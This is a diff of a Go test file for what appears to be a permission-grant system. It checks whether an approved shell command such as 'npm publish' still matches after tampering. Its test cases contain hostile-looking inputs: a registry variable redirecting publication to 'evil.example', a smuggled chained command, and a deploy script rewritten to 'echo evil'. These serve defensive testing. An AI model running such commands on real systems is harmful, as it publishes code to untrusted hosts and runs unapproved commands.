@@ -70,11 +70,8 @@ func tool(session, id, name, folder string, arguments ...string) *act.Action {
 		body[key] = json.RawMessage(value)
 		fmt.Fprintf(h, "%s %s\n", key, value)
 	}
-	params := map[string]any{"args": body}
-	if folder != "" {
-		params["context"] = map[string]any{"session": map[string]any{"metadata": map[string]any{"cwd": folder}}}
-	}
-	a.Body, _ = json.Marshal(map[string]any{"params": params})
+	a.Folder = folder
+	a.Body, _ = json.Marshal(map[string]any{"params": map[string]any{"args": body}})
 	a.Digest = act.Digest(h.Sum(nil))
 	return a
 }
@@ -298,9 +295,7 @@ func TestThreat17Grant(t *testing.T) {
 			{"the same command", shell("npm publish"), shell("npm publish"), nil, nil, true},
 			{"other options", shell("npm publish --tag next"), shell("npm publish --tag latest"), nil, nil, false},
 			{"a registry by a variable", shell("npm publish --access public"), shell("npm_config_registry=https://evil.example npm publish --access public"), nil, nil, false},
-			{"in another folder", shell("npm publish --tag a"), at(shell("npm publish --tag a"), func(a *act.Action) {
-				a.Body = []byte(strings.ReplaceAll(string(a.Body), dir, dir+"/sub"))
-			}), nil, nil, false},
+			{"in another folder", shell("npm publish --tag a"), at(shell("npm publish --tag a"), func(a *act.Action) { a.Folder = dir + "/sub" }), nil, nil, false},
 			{"more after it", shell("npm publish --tag b"), shell("npm publish --tag b; npm publish ../other"), nil, nil, false},
 			{"a changed script", shell("bash deploy.sh"), shell("bash deploy.sh"), func() { write(t, dir+"/deploy.sh", "echo evil\n") }, func() { write(t, dir+"/deploy.sh", "echo deployed\n") }, false},
 			{"the same script", shell("bash ./deploy.sh"), shell("bash ./deploy.sh"), nil, nil, true},
